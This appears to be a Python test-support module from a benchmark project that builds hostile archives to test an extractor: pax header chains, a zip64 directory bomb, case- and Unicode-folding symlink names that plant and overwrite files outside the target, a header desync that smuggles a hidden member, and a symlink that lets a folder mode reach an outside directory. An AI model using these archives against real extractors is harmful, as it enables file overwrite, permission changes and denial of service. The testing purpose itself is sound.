# SPDX-FileCopyrightText: 2026 The vibench-gym authors
# SPDX-License-Identifier: Apache-2.0
"""Archives of the kinds that other readers were caught by (docs/advisories.md names them).

As in `hostile_archives`: each maker adds what is hostile to the honest app's members.
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
from contextlib import contextmanager
from typing import TYPE_CHECKING

from support.attacks.hostile_archives import honest_tar, outside
from support.counter_app import HONEST

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path


def _add(
    tar: tarfile.TarFile, name: str, data: bytes = b"", kind: bytes = b"0", link: str = ""
) -> None:
    info = tarfile.TarInfo(name)
    info.size, info.type, info.linkname = len(data), kind, link
    tar.addfile(info, io.BytesIO(data))


def _header(kind: bytes, data: bytes) -> bytes:
    """An extended header with its data."""
    info = tarfile.TarInfo("././@Extended")
    info.type, info.size = kind, len(data)
    return info.tobuf(tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512)


def _end(path: Path) -> int:
    """Where a tar's last member ends."""
    with tarfile.open(path) as tar:
        last = tar.getmembers()[-1]
    return last.offset_data + last.size + -last.size % 512


@contextmanager
def _appended(folder: Path) -> Iterator[tarfile.TarFile]:
    with tarfile.open(honest_tar(folder), "a") as tar:
        yield tar


def header_chain(folder: Path) -> Path:
    """Extended headers of a permitted size each, one after the other, all for one member."""
    record = b"kNNN=" + b"v" * 600_000 + b"\n"
    with gzip.open(folder / "app.tar.gz", "wb", compresslevel=1) as out:
        for number in range(8):
            data = b"%d " % (len(record) + 7) + record.replace(b"NNN", b"%03d" % number)
            out.write(_header(tarfile.XHDTYPE, data))
        out.write(honest_tar(folder).read_bytes())
    return folder / "app.tar.gz"


def zip64_directory_bomb(folder: Path) -> Path:
    """A modest directory by the plain end record, endless by a zip64 record that it hides."""
    path = folder / "app.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in HONEST.items():
            archive.writestr(name, text)
    data = path.read_bytes()
    at = data.rindex(b"PK\x05\x06")
    count, _, start = struct.unpack_from("<HLL", data, at + 10)
    sizes = (44, 45, 45, 0, 0, count, count, 1 << 40, start)
    record = struct.pack("<4sQHHLLQQQQ", b"PK\x06\x06", *sizes)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, at, 1)
    path.write_bytes(data[:at] + record + locator + data[at:])
    return path


def names_that_fold_together(folder: Path) -> Path:
    """Names that are one on file systems which fold case or form: a link, and files through it."""
    outside(folder)
    with _appended(folder) as tar:
        for link, below in (("\u00df", "ss"), ("\u00e9t", "e\u0301t"), ("Way", "wAY")):
            _add(tar, link, kind=tarfile.SYMTYPE, link=str(folder))
            _add(tar, f"{below}/planted.txt", b"planted")
            _add(tar, f"{below}/outside.txt", b"overwritten")
    return folder / "app.tar"


def size_for_another_header(folder: Path) -> Path:
    """A pax size before a long-name header: some readers lose their place and see other members."""
    inner = io.BytesIO()
    with tarfile.open(fileobj=inner, mode="w") as hidden:
        _add(hidden, "smuggled.txt", b"smuggled")
    info = tarfile.TarInfo("short")
    data = inner.getvalue()[:1536]
    path = honest_tar(folder)
    with path.open("r+b") as file:
        file.seek(_end(path))
        file.write(_header(tarfile.XHDTYPE, b"13 size=1536\n"))
        file.write(_header(tarfile.GNUTYPE_LONGNAME, b"data.bin\0"))
        # What the member's own header says is nothing: who takes the pax size for the long name
        # goes on in the member's data, and finds the smuggled one there.
        file.write(info.tobuf() + data + bytes(1024))
    return path


def mode_through_a_link(folder: Path) -> Path:
    """A link out, then a folder of its name with a mode: set on what the link leads to?"""
    target = folder / "theirs"
    target.mkdir(mode=0o755)
    with _appended(folder) as tar:
        _add(tar, "way", kind=tarfile.SYMTYPE, link=str(target))
        info = tarfile.TarInfo("way")
        info.type, info.mode = tarfile.DIRTYPE, 0o777
        tar.addfile(info)
    return folder / "app.tar"
